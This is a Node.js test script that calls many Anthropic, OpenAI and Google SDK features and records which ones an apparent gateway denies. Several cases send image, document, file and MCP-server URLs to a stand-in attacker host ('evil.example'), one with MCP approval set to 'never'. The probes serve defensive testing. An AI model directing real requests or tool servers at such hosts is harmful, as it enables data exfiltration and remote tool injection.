// The same features as features.py has, asked for as the vendors' SDKs for Node ask for them: `list` prints the table, MODE plays it
// and leaves what came of each in MODE-node.json, in the working directory.
//
// Of a case: its name, what `server_tools` of a route calls it, and the call. null: nothing of the kind, and allowed. PATH: an
// endpoint that no list of features opens.
const fs = require("fs");

const PATH = "metered_path_unknown";
const EVIL = "https://evil.example/s3cr3t";
const PNG = "iVBORw0KGgo=";
let A, O, G, toFile;

const user = (content) => [{ role: "user", content }];
const drain = async (stream) => { for await (const _ of stream); };

// Anthropic.
const body = (content = "hi", more = {}) => ({ model: "claude-x", max_tokens: 9, messages: user(content), ...more });
const message = (content, more) => A.messages.create(body(content, more));
const beta = (content, more) => A.beta.messages.create(body(content, more));
const streamed = (content) => A.messages.stream(body(content)).finalMessage();
const linked = (type) => ({ type, source: { type: "url", url: EVIL } });
const result = (content) => [{ type: "tool_result", tool_use_id: "t", content }];
const counted = (content) => A.messages.countTokens({ model: "claude-x", messages: user(content) });

// OpenAI.
const input = (content = "hi") => (typeof content === "string" ? content : [{ role: "user", content }]);
const respond = (content, more = {}) => O.responses.create({ model: "gpt-x", input: input(content), ...more });
const tool = (type, more = {}) => respond("hi", { tools: [{ type, ...more }] });
const picture = { type: "input_image", image_url: EVIL };

// Google.
const generate = (contents = "hi", config) => G.models.generateContent({ model: "gemini-x", contents, config });
const generated = async (contents) => drain(await G.models.generateContentStream({ model: "gemini-x", contents }));
const googleTool = (tool) => generate("hi", { tools: [tool] });
const filePart = { fileData: { fileUri: EVIL, mimeType: "image/png" } };

const CASES = [
  ["anthropic", null, () => message()],
  ["anthropic, streamed", null, () => streamed("hi")],
  ["anthropic, streamed as it comes", null, async () => drain(await message("hi", { stream: true }))],
  ["anthropic, a picture in the body", null, () => message([{ type: "image", source: { type: "base64", media_type: "image/png", data: PNG } }])],
  ["anthropic, the client's tools", null, () => message("hi", { tools: [{ name: "web_search", input_schema: { type: "object" } }, { type: "bash_20250124", name: "bash" }] })],
  ["anthropic, counting", null, () => counted("hi")],
  ["anthropic, image by URL", "url_image", () => message([linked("image")])],
  ["anthropic, image by URL, streamed", "url_image", () => streamed([linked("image")])],
  ["anthropic, image by URL, counted", "url_image", () => counted([linked("image")])],
  ["anthropic, image by URL in a result", "url_image", () => message(result([linked("image")]))],
  ["anthropic, document by URL", "url_document", () => message([linked("document")])],
  ["anthropic, file", "file_id", () => beta([{ type: "document", source: { type: "file", file_id: "file_1" } }], { betas: ["files-api-2025-04-14"] })],
  ["anthropic, file for a container", "file_id", () => beta([{ type: "container_upload", file_id: "file_1" }], { betas: ["files-api-2025-04-14"] })],
  ["anthropic, MCP", "mcp_servers", () => beta("hi", { mcp_servers: [{ type: "url", url: EVIL, name: "x" }], betas: ["mcp-client-2025-04-04"] })],
  ["anthropic, MCP's tools", "mcp_toolset", () => beta("hi", { tools: [{ type: "mcp_toolset", mcp_server_name: "x" }], betas: ["mcp-client-2025-11-20"] })],
  ["anthropic, web search", "web_search", () => message("hi", { tools: [{ type: "web_search_20250305", name: "web_search" }] })],
  ["anthropic, web fetch", "web_fetch", () => beta("hi", { tools: [{ type: "web_fetch_20250910", name: "web_fetch" }], betas: ["web-fetch-2025-09-10"] })],
  ["anthropic, code", "code_execution", () => beta("hi", { tools: [{ type: "code_execution_20250825", name: "code_execution" }], betas: ["code-execution-2025-08-25"] })],
  ["anthropic, container", "container", () => beta("hi", { container: "container_1" })],
  ["anthropic, skills", "container", () => beta("hi", { container: { skills: [{ type: "custom", skill_id: "x" }] }, betas: ["skills-2025-10-02"] })],
  ["anthropic, batch", PATH, () => A.messages.batches.create({ requests: [{ custom_id: "a", params: body() }] })],
  ["anthropic, what a batch gave", PATH, () => A.messages.batches.retrieve("msgbatch_1")],
  ["anthropic, upload", PATH, async () => A.beta.files.upload({ file: await toFile(Buffer.from("s3cr3t"), "a.txt", { type: "text/plain" }) })],
  ["openai", null, () => respond()],
  ["openai, streamed", null, async () => drain(await respond("hi", { stream: true }))],
  ["openai, a picture in the body", null, () => respond([{ type: "input_image", image_url: "data:image/png;base64," + PNG }])],
  ["openai, the client's tools", null, () => tool("function", { name: "web_search", parameters: { type: "object", properties: {} }, strict: false })],
  ["openai, counting", null, () => O.responses.inputTokens.count({ model: "gpt-x", input: "hi" })],
  ["openai, image by URL", "url_image", () => respond([picture])],
  ["openai, image by URL, counted", "url_image", () => O.responses.inputTokens.count({ model: "gpt-x", input: input([picture]) })],
  ["openai, image by URL, streamed", "url_image", async () => drain(await respond([picture], { stream: true }))],
  ["openai, image by URL in a result", "url_image", () => O.responses.create({ model: "gpt-x", input: [{ type: "function_call_output", call_id: "c", output: [picture] }] })],
  ["openai, document by URL", "url_document", () => respond([{ type: "input_file", file_url: EVIL }])],
  ["openai, file", "file_id", () => respond([{ type: "input_file", file_id: "file-1" }])],
  ["openai, image file", "file_id", () => respond([{ type: "input_image", file_id: "file-1" }])],
  ["openai, previous response", "previous_response", () => respond("hi", { previous_response_id: "resp_1" })],
  ["openai, previous response, compacted", "previous_response", () => O.responses.compact({ model: "gpt-x", input: "hi", previous_response_id: "resp_1" })],
  ["openai, conversation", "conversation", () => respond("hi", { conversation: "conv_1" })],
  ["openai, conversation by object", "conversation", () => respond("hi", { conversation: { id: "conv_1" } })],
  ["openai, background", "background", () => respond("hi", { background: true })],
  ["openai, prompt", "prompt", () => respond("hi", { prompt: { id: "pmpt_1" } })],
  ["openai, stored item", "item_reference", () => O.responses.create({ model: "gpt-x", input: [{ type: "item_reference", id: "msg_1" }, { role: "user", content: "hi" }] })],
  ["openai, web search", "web_search", () => tool("web_search")],
  ["openai, web search, dated", "web_search", () => tool("web_search_2025_08_26")],
  ["openai, web search preview", "web_search_preview", () => tool("web_search_preview")],
  ["openai, file search", "file_search", () => tool("file_search", { vector_store_ids: ["vs_1"] })],
  ["openai, code", "code_interpreter", () => tool("code_interpreter", { container: { type: "auto" } })],
  ["openai, a shell there", "shell", () => tool("shell", { environment: { type: "container_auto" } })],
  ["openai, pictures", "image_generation", () => tool("image_generation")],
  ["openai, MCP", "mcp", () => tool("mcp", { server_label: "x", server_url: EVIL, require_approval: "never" })],
  ["openai, a connector", "mcp", () => tool("mcp", { server_label: "x", connector_id: "connector_gmail", authorization: "s3cr3t" })],
  ["openai, batch", PATH, () => O.batches.create({ input_file_id: "file-1", endpoint: "/v1/responses", completion_window: "24h" })],
  ["openai, upload", PATH, async () => O.files.create({ file: await toFile(Buffer.from("s3cr3t"), "a.jsonl"), purpose: "batch" })],
  ["openai, another's input", PATH, async () => await O.responses.inputItems.list("resp_1")],
  ["openai, new conversation", PATH, () => O.conversations.create({ items: [{ role: "user", content: "s3cr3t" }] })],
  ["openai, new container", PATH, () => O.containers.create({ name: "s3cr3t" })],
  ["openai, new store", PATH, () => O.vectorStores.create({ name: "s3cr3t" })],
  ["google", null, () => generate()],
  ["google, streamed", null, () => generated("hi")],
  ["google, a picture in the body", null, () => generate([{ inlineData: { data: PNG, mimeType: "image/png" } }])],
  ["google, the client's tools", null, () => googleTool({ functionDeclarations: [{ name: "google_search" }] })],
  ["google, counting", null, () => G.models.countTokens({ model: "gemini-x", contents: "hi" })],
  ["google, file by URL", "file_uri", () => generate([filePart])],
  ["google, file by URL, counted", "file_uri", () => G.models.countTokens({ model: "gemini-x", contents: [filePart] })],
  ["google, file by URL, streamed", "file_uri", () => generated([filePart])],
  ["google, file by URL in what the system says", "file_uri", () => generate("hi", { systemInstruction: [filePart] })],
  ["google, search", "google_search", () => googleTool({ googleSearch: {} })],
  ["google, older search", "google_search_retrieval", () => googleTool({ googleSearchRetrieval: {} })],
  ["google, maps", "google_maps", () => googleTool({ googleMaps: {} })],
  ["google, pages", "url_context", () => googleTool({ urlContext: {} })],
  ["google, code", "code_execution", () => googleTool({ codeExecution: {} })],
  ["google, file search", "file_search", () => googleTool({ fileSearch: { fileSearchStoreNames: ["fileSearchStores/x"] } })],
  ["google, what is kept", "cached_content", () => generate("hi", { cachedContent: "cachedContents/x" })],
  ["google, keeping", PATH, () => G.caches.create({ model: "gemini-x", config: { contents: ["s3cr3t"] } })],
  ["google, batch", PATH, () => G.batches.create({ model: "gemini-x", src: [{ contents: [{ role: "user", parts: [{ text: "s3cr3t" }] }] }] })],
  ["google, embedding", PATH, () => G.models.embedContent({ model: "gemini-x", contents: "s3cr3t" })],
  ["google, interaction", PATH, () => G.interactions.create({ model: "gemini-x", input: "s3cr3t" }, { maxRetries: 0 })],
];

async function play(mode) {
  // The programs beside the packages are on the PATH.
  const beside = process.env.PATH.split(":").find((dir) => fs.existsSync(`${dir}/../openai/package.json`));
  const of = require("module").createRequire(fs.realpathSync(`${beside}/..`) + "/x.js");
  const Anthropic = of("@anthropic-ai/sdk");
  const OpenAI = of("openai");
  const { GoogleGenAI } = of("@google/genai");
  toFile = OpenAI.toFile;
  A = new Anthropic({ apiKey: "placeholder", maxRetries: 0 });
  O = new OpenAI({ apiKey: "placeholder", maxRetries: 0 });
  G = new GoogleGenAI({ apiKey: "placeholder" });
  const got = [];
  for (const [name, feature, call] of CASES) {
    let [status, text] = [200, ""];
    try {
      await call();
    } catch (error) {
      status = error.status || 0;
      text = `${error.headers?.get?.("x-bb-deny")} ${error.constructor.name}: ${error.message} ${error.cause || ""}`;
    }
    got.push({ name, feature, status, text });
  }
  fs.writeFileSync(`${mode}-node.json`, JSON.stringify(got));
}

if (process.argv[2] === "list") {
  console.log(JSON.stringify(CASES.map(([name, feature]) => ({ name, feature }))));
} else {
  play(process.argv[2]);
}
